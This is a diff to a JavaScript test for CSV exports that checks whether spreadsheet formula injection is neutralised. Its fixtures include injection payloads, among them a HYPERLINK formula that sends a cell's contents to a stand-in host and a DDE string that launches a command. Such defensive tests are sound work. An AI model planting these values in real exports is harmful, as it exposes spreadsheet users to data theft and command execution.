@@ -59,8 +59,10 @@ describe('CSV exports', () => {
       const lines = cells.flatMap((cell) => cell.split(/\r\n|\n|\r/));
       expect(lines.filter((line) => /^[=+\-@\t\r]/.test(line) && !/^-?\d+(\.\d+)?$/.test(line))).toEqual([]);
     }
-    const answers = rows(beatsCsv(hostile, 'vi')).filter((r) => r.response === 'text').map((r) => r.answer);
-    expect(answers).toEqual(["'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")\nchưa xác nhận", "chưa xác nhận\r\n'+1+cmd|/C calc", "ok\r'@SUM(1)", "'\n'-2+3"]);
+    const answers = rows(beatsCsv(hostile, 'vi'))
+      .filter((r) => r.response === 'text')
+      .map((r) => r.answer);
+    expect(answers).toEqual(['\'=HYPERLINK("http://x.example/?"&A1,"open")\nchưa xác nhận', "chưa xác nhận\r\n'+1+cmd|/C calc", "ok\r'@SUM(1)", "'\n'-2+3"]);
   });
 
   it('writes header words in the reader’s language when given them', () => {
